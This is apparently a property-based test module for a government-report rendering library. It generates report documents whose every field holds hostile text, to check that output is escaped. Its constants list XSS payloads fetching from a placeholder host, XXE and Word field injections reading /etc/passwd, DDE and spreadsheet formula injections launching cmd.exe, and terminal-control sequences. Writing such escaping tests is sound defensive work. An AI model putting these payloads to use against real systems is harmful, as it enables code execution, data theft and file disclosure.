"""Texts that would run, fetch, steer or compute something, were they ever taken for more than texts."""

import datetime
from dataclasses import replace

from hypothesis import strategies as st

from govreport import Diagnostic, Heading, Paragraph, ReportDocument, Section, Source
from govreport.blocks import Page, Stream, TableBlock, TextBlock
from govreport.model.diagnostics import diagnostic
from govreport.model.document import Block
from govreport.model.grid import Cell, Table
from govreport.model.statutory import ExtraColumn, StatutoryRow, StatutoryTable

HOST = "http://hostile.invalid"
"""What a text names to be fetched; a test that counts requests puts its own server there."""

MARKUP = (
    f"<script src='{HOST}/s.js'></script><script>fetch('{HOST}/f');document.title='run'</script>",
    f"<img src={HOST}/i onerror=fetch('{HOST}/e')>",
    f"<svg onload=fetch('{HOST}/l')><use href='{HOST}/u#a'/></svg>",
    f"<math><mtext></style><img src={HOST}/m onerror=alert(1)></math>",
    f"</style><style>@import '{HOST}/c.css';*{{background:url({HOST}/b)}}</style>",
    f"</title><meta http-equiv=refresh content='0;url={HOST}/r'><title>",
    f"<base href='{HOST}/'><link rel=stylesheet href='{HOST}/k.css'><link rel=prefetch href=/p>",
    f"<iframe srcdoc='<script>top.fetch(\"{HOST}/d\")</script>' src='{HOST}/n'></iframe>",
    f"<object data='{HOST}/o'></object><embed src='{HOST}/q'><video src='{HOST}/v' autoplay>",
    f'"><script>fetch("{HOST}/1")</script><p title="',
    f"'><script>fetch('{HOST}/2')</script><p title='",
    f'" onmouseover="fetch(\'{HOST}/3\')" autofocus tabindex=0 onfocus="fetch(\'{HOST}/4\')" x="',
    f'" style="background:url(\'{HOST}/5\')" class="x',
    f"`><script>fetch('{HOST}/6')</script>",
    f"]]><script>fetch('{HOST}/7')</script><![CDATA[",
    f"--><script>fetch('{HOST}/8')</script><!--",
    f"--!><img src={HOST}/9><!--",
    "</td></tr></table></main></body></html><script>document.title='run'</script>",
    "</textarea></noscript></xmp></template><script>document.title='run'</script>",
    "<a href=javascript:document.title='run'>a</a>",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x",
    f"&lt;script&gt;fetch('{HOST}/10')&lt;/script&gt;",
    "&#60;script&#62;document.title='run'&#60;/script&#62;",
    f"+ADw-script+AD4-fetch('{HOST}/11')+ADw-/script+AD4-",
    "<?xml-stylesheet href='file:///etc/passwd'?><!ENTITY a SYSTEM 'file:///etc/passwd'>",
    "<plaintext>",
    "<!DOCTYPE html [<!ENTITY a 'b'>]>&a;",
    "<img src=file:///etc/passwd><script src=file:///etc/passwd></script>",
    "0;url=javascript:document.title='run'",
    "javascript:document.title='run'",
    f"url({HOST}/12)",
    "'\"`<>&={}()/\\",
)
"""Texts for who would write them into a page unescaped."""

WORD = (
    "</w:t></w:r><w:r><w:instrText> INCLUDETEXT /etc/passwd </w:instrText></w:r><w:r><w:t>",
    f"</w:t></w:r></w:p><w:altChunk r:id='rId1'/><Relationship TargetMode='External' Target='{HOST}'/>",
    f'"/><Relationship Id="x" TargetMode="External" Target="{HOST}/t"/><a b="',
    f"INCLUDEPICTURE {HOST}/p.png",
    f'{{ HYPERLINK "{HOST}/h" }}',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "]]></w:t><w:fldSimple w:instr='DDE cmd'/><w:t><![CDATA[",
)
"""Texts for who would write them into a Word file unescaped."""

TERMINAL = (
    "\x7f\x9b2J\x9b31m\x9d0;title\x9c",
    "\u202eabc\u202c\u2066d\u2069\u200e\u200f\u061c",
    "a\x85b\u2028c\u2029d",
    "::error file=a::b",
    "%0A::set-output name=a::b",
)
"""Texts that steer a terminal, or a program that reads its lines; XML can carry them."""

FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", f'=HYPERLINK("{HOST}")')
"""Texts that a spreadsheet would compute."""

TEXTS = (*MARKUP, *WORD, *TERMINAL, *FORMULAS)

_LEVELS = (None, 0, 1, 2, 3, 7, 9)


def hostile_texts() -> st.SearchStrategy[str]:
    """Return a strategy for one-line texts, each hostile in one way or in several."""
    piece = st.one_of(
        st.sampled_from(TEXTS), st.text(st.sampled_from("<>&\"'`=/-!]\\ a:\x9b"), max_size=6)
    )
    joined = st.lists(piece, min_size=1, max_size=3).map("".join)
    return joined.map(lambda text: " ".join(text.split()) or "a")


def hostile_documents() -> st.SearchStrategy[ReportDocument]:
    """Return a strategy for documents whose every text is hostile."""
    return st.lists(hostile_texts(), min_size=1, max_size=24).map(document_of)


def document_of(texts: list[str] | tuple[str, ...]) -> ReportDocument:
    """Return a document with a text of those in turn in each field that can hold one."""
    number = -1

    def text() -> str:
        nonlocal number
        number += 1
        return texts[number % len(texts)]

    grid = Table([[text(), text()], [Cell([text(), Table([[text()]])]), text()]])
    blocks: tuple[Block, ...] = (Paragraph(f"{text()}\n{text()}"), Heading(text(), 3), grid)
    sections = (
        Section("overview", text(), (*blocks, *(Paragraph(each) for each in texts))),
        Section("applications", text(), (_table("applications", text),)),
        Section("reviews", text(), (_table("reviews", text),)),
        Section("other", text(), (_table("proactive_disclosure", text),)),
    )
    return ReportDocument(
        title=text(),
        agency=text(),
        year=2023,
        preamble=(Paragraph(text()),),
        sections=sections,
        closing=(Paragraph(text()),),
        source=Source(datetime.date(2024, 1, 2), text()),
        diagnostics=_diagnostics(text),
    )


def _table(kind: str, text: object) -> StatutoryTable:
    assert callable(text)
    base = StatutoryTable.from_texts(kind, None if kind == "reviews" else 2021)  # type: ignore[arg-type]
    rows = [
        replace(
            row,
            cells=(*(text() for _ in row.cells), *([text()] if kind == "applications" else [])),
        )
        for row in base.rows
    ]
    width = len(rows[0].cells)
    rows.append(
        StatutoryRow(
            None, "" if kind == "reviews" else text(), tuple(text() for _ in range(width))
        )
    )
    extra = (ExtraColumn(text()),) if kind == "applications" else ()
    return replace(base, rows=tuple(rows), extra_columns=extra)


def _diagnostics(text: object) -> tuple[Diagnostic, ...]:
    assert callable(text)
    codes = ("unplaced-text", "page-furniture", "repeated-row")
    return tuple(diagnostic(code, text(), text(), text()) for code in codes)


def hostile_streams() -> st.SearchStrategy[Stream]:
    """Return a strategy for streams whose every text is hostile, a page's statements included."""
    return st.lists(hostile_texts(), min_size=6, max_size=12).map(stream_of)


def stream_of(texts: list[str] | tuple[str, ...]) -> Stream:
    """Return a stream with those texts at each place of a stream that takes any."""
    blocks: list[TextBlock | TableBlock] = [
        TextBlock(text, _LEVELS[place % len(_LEVELS)], "heading 2" if place % 2 else "")
        for place, text in enumerate(texts)
    ]
    blocks.append(TableBlock(Table([list(texts), list(texts)]), "applications 2021"))
    page = Page(texts[0], texts[1], datetime.date(2024, 1, 2), texts[2])
    return Stream(tuple(blocks), page, statements=(("agency", texts[3]), ("title", texts[4])))
